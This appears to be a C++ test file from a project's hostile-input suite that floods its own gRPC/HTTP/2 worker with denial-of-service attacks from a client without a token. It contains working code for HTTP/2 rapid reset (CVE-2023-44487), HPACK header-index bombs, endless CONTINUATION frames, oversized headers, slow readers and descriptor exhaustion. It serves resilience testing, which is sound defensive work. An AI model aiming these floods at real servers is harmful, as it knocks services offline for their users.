// Attacks of somebody who has not got the token.
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <random>
#include <string>
#include <thread>
#include <utility>
#include <vector>

#include "systole/worker/testing/proxy.h"
#include "systole/worker/testing/raw_http2.h"
#include "tests/hostile/attacks.h"

namespace systole::hostile {
namespace {

using worker::testing::frame;
using worker::testing::header_field;
using worker::testing::kPreface;
using worker::testing::RawHttp2;

constexpr const char* kHello = "/systole.worker.v1.Worker/Hello";
constexpr const char* kSession = "/systole.worker.v1.Worker/Session";
constexpr const char* kUpload = "/systole.worker.v1.Worker/Upload";
constexpr int64_t kMiB = int64_t{1} << 20;

void pause(double seconds) { std::this_thread::sleep_for(std::chrono::duration<double>(seconds)); }

std::string random_bytes(size_t size, uint32_t seed) {
  std::mt19937 random(seed);
  std::string bytes(size, '\0');
  for (char& c : bytes) c = static_cast<char>(random());
  return bytes;
}

void random_bytes_without_preface(const Target& target) {
  for (int64_t i = 0; i < target.turns(1000); ++i) {
    RawHttp2(target.port, false).send(random_bytes(4096, static_cast<uint32_t>(i)));
  }
}

void random_frames(const Target& target) {
  for (int64_t i = 0; i < target.turns(1000); ++i) {
    const std::string bytes = random_bytes(4096, static_cast<uint32_t>(i));
    RawHttp2 connection(target.port);
    // Frames of random types, flags and streams whose sizes are right.
    for (size_t at = 0; at + 100 <= bytes.size(); at += 100) {
      connection.send(frame(static_cast<uint8_t>(bytes[at] & 0xf),
                            static_cast<uint8_t>(bytes[at + 1]),
                            static_cast<uint8_t>(bytes[at + 2]), bytes.substr(at + 3, 80)));
    }
    connection.receive(0);
  }
}

void half_open(const Target& target) {
  std::vector<RawHttp2> connections;
  for (int64_t i = 0; i < target.turns(2000); ++i) connections.emplace_back(target.port, false);
  pause(2 * target.scale);
}

void half_a_preface(const Target& target) {
  std::vector<RawHttp2> connections;
  for (int64_t i = 0; i < target.turns(2000); ++i) {
    connections.emplace_back(target.port, false);
    connections.back().send(kPreface.substr(0, 12));
  }
  pause(2 * target.scale);
}

void preface_a_byte_at_a_time(const Target& target) {
  std::vector<RawHttp2> connections;
  for (int64_t i = 0; i < target.turns(500); ++i) connections.emplace_back(target.port, false);
  for (const char c : kPreface) {
    for (RawHttp2& connection : connections) connection.send(std::string(1, c));
    pause(0.05);
  }
}

void preface_and_nothing_else(const Target& target) {
  std::vector<RawHttp2> connections;
  for (int64_t i = 0; i < target.turns(2000); ++i) connections.emplace_back(target.port);
  pause(2 * target.scale);
}

void connections_in_a_row(const Target& target) {
  for (int64_t i = 0; i < target.turns(20'000); ++i) {
    const int socket = worker::testing::connect_to(target.port);
    if (socket >= 0) ::close(socket);
  }
}

void handshakes_of_tls(const Target& target) {
  for (int64_t i = 0; i < target.turns(1000); ++i) {
    RawHttp2 connection(target.port, false);
    connection.send(std::string("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 11) +
                    random_bytes(500, static_cast<uint32_t>(i)));
  }
}

// Messages whose first part is sent, on many connections.
void half_sent(const Target& target, const char* method) {
  const std::string part(static_cast<size_t>(4 * kMiB), 'x');
  std::vector<RawHttp2> connections;
  for (int64_t i = 0; i < target.turns(100); ++i) {
    connections.emplace_back(target.port);
    RawHttp2& connection = connections.back();
    for (int k = 0; k < 4; ++k) {
      connection.message(connection.call(method), 8 * kMiB, part, 0.05);
      if (connection.closed()) break;
    }
  }
}

void half_sent_hellos(const Target& target) { half_sent(target, kHello); }
void half_sent_uploads(const Target& target) { half_sent(target, kUpload); }
void half_sent_session_messages(const Target& target) { half_sent(target, kSession); }
void half_sent_health_checks(const Target& target) {
  half_sent(target, "/grpc.health.v1.Health/Check");
}

// 1,000 connections with 1,000 streams each.
void connections_with_streams(const Target& target) {
  std::vector<RawHttp2> connections;
  for (int64_t i = 0; i < target.turns(1000); ++i) {
    connections.emplace_back(target.port);
    std::string calls;
    for (int k = 0; k < 1000; ++k) calls += connections.back().call_frame(kHello);
    connections.back().send(calls);
  }
  pause(target.scale);
}

void streams_one_by_one(const Target& target) {
  for (int64_t i = 0; i < target.turns(200); ++i) {
    RawHttp2 connection(target.port);
    for (int k = 0; k < 100 && !connection.closed(); ++k) {
      connection.call(kSession);
      connection.receive(0.001);
    }
  }
}

// Calls that are reset at once (CVE-2023-44487).
void rapid_reset(const Target& target) {
  const auto end =
      std::chrono::steady_clock::now() + std::chrono::duration<double>(8 * target.scale);
  while (std::chrono::steady_clock::now() < end) {
    RawHttp2 connection(target.port);
    while (!connection.closed() && std::chrono::steady_clock::now() < end) {
      std::string frames;
      for (int i = 0; i < 50; ++i) {
        const std::string call = connection.call_frame(kHello);
        const std::string stream = call.substr(5, 4);
        frames += call;
        frames += frame(3, 0,
                        static_cast<uint8_t>(stream[3]) |
                            static_cast<uint32_t>(static_cast<uint8_t>(stream[2])) << 8,
                        std::string("\0\0\0\x08", 4));
      }
      if (!connection.send(frames)) break;
      connection.receive(0);
    }
  }
}

void wrong_tokens(const Target& target) {
  for (int64_t i = 0; i < target.turns(500); ++i) {
    RawHttp2 connection(target.port);
    for (int k = 0; k < 20 && !connection.closed(); ++k) {
      connection.call(kHello, std::string(32, static_cast<char>('a' + k)));
    }
    connection.receive(0.002);
  }
}

void unknown_methods(const Target& target) {
  for (int64_t i = 0; i < target.turns(500); ++i) {
    RawHttp2 connection(target.port);
    for (int k = 0; k < 20 && !connection.closed(); ++k) {
      connection.call("/" + std::string(1000, 'm') + "/" + std::to_string(k));
    }
    connection.receive(0.002);
  }
}

void health_checks(const Target& target) {
  for (int64_t i = 0; i < target.turns(500); ++i) {
    RawHttp2 connection(target.port);
    for (int k = 0; k < 50 && !connection.closed(); ++k) {
      connection.call("/grpc.health.v1.Health/Check");
    }
    connection.receive(0.002);
  }
}

void huge_headers(const Target& target) {
  const std::string fields = header_field("x", std::string(16'000, 'x'));
  for (int64_t i = 0; i < target.turns(200); ++i) {
    RawHttp2 connection(target.port);
    connection.send(frame(1, 0, 1, fields));  // continues
    for (int k = 0; k < 100 && connection.send(frame(9, 0, 1, fields)); ++k) {
    }
  }
}

// Fields whose size old versions of gRPC misjudge, within long headers (CVE-2023-1428).
void misjudged_headers(const Target& target) {
  const std::string fields = header_field(":method", "POST") + header_field(":path", kHello) +
                             header_field("content-type", "application/grpc");
  const std::string filler = header_field("x", std::string(15'000, 'x'));
  for (const auto& [name, value] :
       {std::pair("te", "x"), std::pair(":scheme", "x"), std::pair("grpclb_client_stats", "x")}) {
    for (int parts = 0; parts < 4; ++parts) {
      RawHttp2 connection(target.port);
      connection.send(frame(1, parts == 0 ? 4 : 0, 1, fields + header_field(name, value)));
      for (int k = 1; k <= parts; ++k) connection.send(frame(9, k == parts ? 4 : 0, 1, filler));
      connection.receive(0.05);
    }
  }
}

void endless_continuations(const Target& target) {
  for (int64_t i = 0; i < target.turns(100); ++i) {
    RawHttp2 connection(target.port);
    connection.send(frame(1, 0, 1, header_field("x", "y")));
    const std::string empty = frame(9, 0, 1, "");
    std::string many;
    for (int k = 0; k < 1000; ++k) many += empty;
    for (int k = 0; k < 100 && connection.send(many); ++k) {
    }
  }
}

// A header of a few bytes that names a large one of the table again and again.
void hpack_bomb(const Target& target) {
  for (int64_t i = 0; i < target.turns(200); ++i) {
    RawHttp2 connection(target.port);
    std::string fields =
        std::string(1, '\x40') + header_field("x", std::string(4000, 'x')).substr(1);
    fields += std::string(10'000, '\xbe');  // index 62: the entry that was just added
    connection.send(frame(1, 4, 1, fields));
    connection.receive(0.002);
  }
}

void frames_without_end(const Target& target, const std::string& one) {
  std::string many;
  while (many.size() < 64 * 1024) many += one;
  for (int64_t i = 0; i < target.turns(50); ++i) {
    RawHttp2 connection(target.port);
    for (int k = 0; k < 200 && connection.send(many); ++k) {
    }
  }
}

void pings(const Target& target) { frames_without_end(target, frame(6, 0, 0, "12345678")); }
void settings(const Target& target) { frames_without_end(target, frame(4, 0, 0, "")); }
void window_updates(const Target& target) {
  frames_without_end(target, frame(8, 0, 0, std::string("\0\0\0\1", 4)));
}
void priorities(const Target& target) {
  frames_without_end(target, frame(2, 0, 1, std::string("\0\0\0\3\1", 5)));
}
void unknown_frames(const Target& target) {
  frames_without_end(target, frame(77, 0, 0, std::string(1000, 'x')));
}

// Asks for answers and does not read them.
void slow_readers(const Target& target) {
  std::vector<RawHttp2> connections;
  for (int64_t i = 0; i < target.turns(500); ++i) {
    connections.emplace_back(target.port);
    const int small = 1024;
    ::setsockopt(connections.back().socket(), SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
    for (int k = 0; k < 7; ++k) connections.back().call("/grpc.health.v1.Health/Check");
  }
  pause(2 * target.scale);
}

void window_of_nothing(const Target& target) {
  std::vector<RawHttp2> connections;
  for (int64_t i = 0; i < target.turns(500); ++i) {
    connections.emplace_back(target.port, false);
    // SETTINGS_INITIAL_WINDOW_SIZE 0.
    connections.back().send(std::string(kPreface) + frame(4, 0, 0, std::string("\0\4\0\0\0\0", 6)));
    for (int k = 0; k < 7; ++k) connections.back().call("/grpc.health.v1.Health/Check");
  }
  pause(2 * target.scale);
}

// More connections than the worker has descriptors, then none (CVE-2023-4785).
void all_descriptors(const Target& target) {
  std::vector<RawHttp2> connections;
  for (int64_t i = 0; i < 1100; ++i) connections.emplace_back(target.port);
  pause(3 * target.scale);
}

}  // namespace

std::vector<Attack> stranger_attacks() {
  return {{"random bytes", false, random_bytes_without_preface},
          {"random frames", false, random_frames},
          {"half-open connections", false, half_open},
          {"half a preface", false, half_a_preface},
          {"a preface, a byte at a time", false, preface_a_byte_at_a_time},
          {"a preface and nothing else", false, preface_and_nothing_else},
          {"20,000 connections in a row", false, connections_in_a_row},
          {"handshakes of TLS", false, handshakes_of_tls},
          {"half-sent Hellos", false, half_sent_hellos},
          {"half-sent uploads", false, half_sent_uploads},
          {"half-sent messages of sessions", false, half_sent_session_messages},
          {"half-sent health checks", false, half_sent_health_checks},
          {"1,000 connections x 1,000 streams", false, connections_with_streams},
          {"streams one by one", false, streams_one_by_one},
          {"rapid reset", false, rapid_reset},
          {"wrong tokens", false, wrong_tokens},
          {"unknown methods", false, unknown_methods},
          {"health checks", false, health_checks},
          {"huge headers", false, huge_headers},
          {"misjudged headers", false, misjudged_headers},
          {"endless continuations", false, endless_continuations},
          {"a bomb of header indices", false, hpack_bomb},
          {"pings", false, pings},
          {"settings", false, settings},
          {"window updates", false, window_updates},
          {"priorities", false, priorities},
          {"unknown frames", false, unknown_frames},
          {"slow readers", false, slow_readers},
          {"a window of nothing", false, window_of_nothing},
          {"1,100 connections, 1,024 descriptors", false, all_descriptors, 1024},
          {"1,100 connections, 64 descriptors", false, all_descriptors, 64}};
}

}  // namespace systole::hostile
